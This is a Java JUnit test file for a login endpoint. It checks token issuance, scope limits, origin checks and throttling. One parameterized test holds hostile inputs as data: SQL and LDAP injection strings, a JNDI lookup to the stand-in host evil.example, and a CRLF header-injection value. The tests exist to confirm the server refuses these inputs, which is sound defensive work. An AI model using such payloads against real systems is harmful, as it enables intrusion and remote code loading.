package dev.gatewright.login;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gatewright.Http;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.client.LoginClient;
import dev.gatewright.user.User;
import java.net.http.HttpResponse;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code POST /api/login} over HTTP. */
class LoginTest {
  private static TestServer server;
  private static TestUsers testUsers;
  private static Http http;

  @BeforeAll
  static void start() {
    server = TestServer.start();
    testUsers = new TestUsers(server);
    http = new Http(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void loginGivesTokensOfTheBuiltInClient() {
    User user = testUsers.user();
    HttpResponse<String> response = logIn(user.username(), TestUsers.PASSWORD);
    JsonNode tokens = Http.body(200, response);

    assertEquals("Bearer", tokens.get("token_type").asText());
    assertTrue(tokens.get("expires_in").asInt() > 0, response.body());
    assertEquals(
        "openid profile email address phone user:read user:write", tokens.get("scope").asText());
    assertEquals("no-store", Http.header(response, "Cache-Control"));
    Map<String, String> refresh =
        Map.of(
            "grant_type",
            "refresh_token",
            "client_id",
            LoginClient.CLIENT_ID,
            "refresh_token",
            tokens.get("refresh_token").asText());
    String fresh = Http.body(200, http.form("/oauth2/token", refresh)).get("access_token").asText();
    assertEquals(
        user.id().toString(),
        Http.body(200, http.get("/api/user", "Authorization", "Bearer " + fresh))
            .get("id")
            .asText());
  }

  @Test
  void emailIsALoginToo() {
    User user = testUsers.user();

    Http.body(200, logIn(String.valueOf(user.email()), TestUsers.PASSWORD));
  }

  @Test
  void unknownUserAndWrongPasswordAreOneAnswer() {
    User user = testUsers.user();
    ObjectNode wrong = (ObjectNode) Http.body(401, logIn(user.username(), "wrong password"));
    ObjectNode unknown =
        (ObjectNode) Http.body(401, logIn(TestUsers.freshName(), "wrong password"));

    assertNotEquals(wrong.remove("instance"), unknown.remove("instance"));
    assertEquals(wrong, unknown);
  }

  @Test
  void scopesAreThoseAskedForAndAdministrativeOnesAreForAdministrators() {
    User user = testUsers.user();
    User administrator = testUsers.administrator();

    assertEquals("user:read", Http.body(200, logIn(user, "user:read")).get("scope").asText());
    assertEquals(
        "users:read", Http.body(200, logIn(administrator, "users:read")).get("scope").asText());
    assertTrue(testUsers.logIn(administrator).get("scope").asText().contains("clients:write"));
    Http.body(400, logIn(user, "users:read"));
    Http.body(400, logIn(user, "offline_access"));
    Http.body(400, logIn(user, "unheard:of"));
    Http.body(400, logIn(user, "user:read\\u0000"));
  }

  @Test
  void pagesOfOtherOriginsAreRefused() {
    User user = testUsers.user();
    String body =
        "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);

    Http.body(403, http.json("POST", "/api/login", body, "Origin", "https://evil.example"));
    Http.body(403, http.json("POST", "/api/login", body, "Origin", "null"));
    Http.body(403, http.json("POST", "/api/login", body, "Sec-Fetch-Site", "cross-site"));
    Http.body(200, http.json("POST", "/api/login", body, "Origin", server.issuer()));
    HttpResponse<String> preflight =
        http.send(
            "OPTIONS",
            "/api/login",
            "",
            "Origin",
            "https://evil.example",
            "Access-Control-Request-Method",
            "POST");
    assertEquals("", Http.header(preflight, "Access-Control-Allow-Origin"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' or '1'='1",
        "*)(uid=*))(|(uid=*",
        "${jndi:ldap://evil.example/x}",
        "a\\r\\nSet-Cookie:x=1",
        "\\u0000"
      })
  void injectionIsAPlainRefusal(String login) {
    Http.body(401, logIn(login, login));
  }

  @Test
  void malformedRequestsAreRefused() {
    assertEquals(400, http.json("POST", "/api/login", "{").statusCode());
    assertEquals(400, http.json("POST", "/api/login", "{}").statusCode());
    assertEquals(415, http.form("/api/login", Map.of("login", "a", "password", "b")).statusCode());
    assertEquals(405, http.get("/api/login?login=a&password=b").statusCode());
  }

  @Test
  void canBeSwitchedOff() {
    try (TestServer closed = TestServer.start(Map.of("gatewright.login-api.enabled", false))) {
      User user = new TestUsers(closed).user();
      String body =
          "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);

      JsonNode problem = Http.body(403, new Http(closed).json("POST", "/api/login", body));
      assertEquals("urn:gatewright:problem:login-forbidden", problem.get("type").asText());
    }
  }

  @Test
  void afterTooManyFailuresANameHasToWait() {
    try (TestServer strict =
        TestServer.start(
            Map.of(
                "gatewright.login-throttle.failures-per-login",
                3,
                "gatewright.login-throttle.refill-per-login",
                "1h"))) {
      TestUsers users = new TestUsers(strict);
      User user = users.user();
      User other = users.user();
      Http caller = new Http(strict);
      for (int i = 0; i < 10; i++) {
        users.logIn(user); // successes do not count
      }
      String wrong = "{\"login\":\"%s\",\"password\":\"wrong password\"}";
      for (int i = 0; i < 3; i++) {
        Http.body(401, caller.json("POST", "/api/login", wrong.formatted(user.username())));
      }
      HttpResponse<String> refused =
          caller.json("POST", "/api/login", wrong.formatted(user.username()));
      Http.body(429, refused);
      assertTrue(Integer.parseInt(Http.header(refused, "Retry-After")) > 60, refused.toString());
      String right =
          "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
      Http.body(429, caller.json("POST", "/api/login", right));
      users.logIn(other);
    }
  }

  @Test
  void afterTooManyFailuresAnAddressHasToWait() {
    try (TestServer strict =
        TestServer.start(
            Map.of(
                "gatewright.login-throttle.failures-per-address",
                3,
                "gatewright.login-throttle.refill-per-address",
                "1h"))) {
      Http caller = new Http(strict);
      String wrong = "{\"login\":\"%s\",\"password\":\"wrong password\"}";
      for (int i = 0; i < 3; i++) {
        Http.body(401, caller.json("POST", "/api/login", wrong.formatted(TestUsers.freshName())));
      }
      Http.body(429, caller.json("POST", "/api/login", wrong.formatted(TestUsers.freshName())));
      Http.body(
          429,
          caller.json(
              "POST",
              "/api/login",
              wrong.formatted(TestUsers.freshName()),
              "X-Forwarded-For",
              "203.0.113.7"));
    }
  }

  @Test
  void passwordIsNotInTheTextFormOfTheForm() {
    assertFalse(
        new LoginForm("csrf", "ada", "sesame", null, null, null).toString().contains("sesame"));
  }

  private static HttpResponse<String> logIn(String login, String password) {
    return http.json(
        "POST", "/api/login", "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(login, password));
  }

  private static HttpResponse<String> logIn(User user, String scope) {
    return http.json(
        "POST",
        "/api/login",
        "{\"login\":\"%s\",\"password\":\"%s\",\"scope\":\"%s\"}"
            .formatted(user.username(), TestUsers.PASSWORD, scope));
  }
}
